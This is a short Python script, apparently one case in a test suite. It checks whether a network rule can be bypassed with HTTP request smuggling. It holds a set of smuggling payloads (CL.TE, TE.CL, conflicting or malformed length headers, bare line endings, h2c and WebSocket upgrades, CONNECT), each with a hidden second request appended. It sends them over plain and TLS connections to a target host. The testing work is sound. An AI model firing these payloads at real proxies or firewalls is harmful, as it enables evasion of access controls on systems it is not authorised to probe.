# Case 14: two requests where a rule sees one.
import sys
from attempts import *

allowed = sys.argv[1]
top = f"POST / HTTP/1.1\r\nHost: {allowed}\r\n"
inner = f"GET /smuggled HTTP/1.1\r\nHost: {allowed}\r\nConnection: close\r\n\r\n"
bodies = {
    "CL.TE": top + "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX",
    "TE.CL": top + "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
    "TE.TE": top + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "two lengths": top + "Content-Length: 0\r\nContent-Length: 0\r\n\r\n",
    "a list of lengths": top + "Content-Length: 0, 0\r\n\r\n",
    "folded": top + "X: y\r\n z\r\nContent-Length: 0\r\n\r\n",
    "bare LF": (top + "Content-Length: 0\r\n\r\n").replace("\r\n", "\n"),
    "one bare LF": top + "X: y\nContent-Length: 0\r\n\r\n",
    "bare CR": top + "X: y\rContent-Length: 60\r\n\r\n",
    "a space before the colon": top + "Content-Length : 0\r\n\r\n",
    "underscore": top + "Content_Length: 60\r\nContent-Length: 0\r\n\r\n",
    "h2c": top + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n",
    "another upgrade": top + "Connection: Upgrade\r\nUpgrade: raw\r\nContent-Length: 0\r\n\r\n",
    "WebSocket that is none": f"GET / HTTP/1.1\r\nHost: {allowed}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    "CONNECT": f"CONNECT {allowed}:80 HTTP/1.1\r\nHost: {allowed}\r\n\r\n",
    "a chunk with an odd end": top + "Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\n0\r\n\r\n",
}


def plain(text):
    return lambda: answered(tcp(allowed, 80, (text + inner).encode()))


def secure(text):
    def do():
        c = ssl.create_default_context()
        c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
        with c.wrap_socket(socket.create_connection((allowed, 443)), server_hostname=allowed) as s:
            s.sendall((text + inner).encode())
            return answered(read(s))
    return do


def answered(got):
    return got if got.count(b"reached") > 1 else None


all_at_once([(f"{name} {kind.__name__}", kind(text)) for name, text in bodies.items() for kind in (plain, secure)], 4)
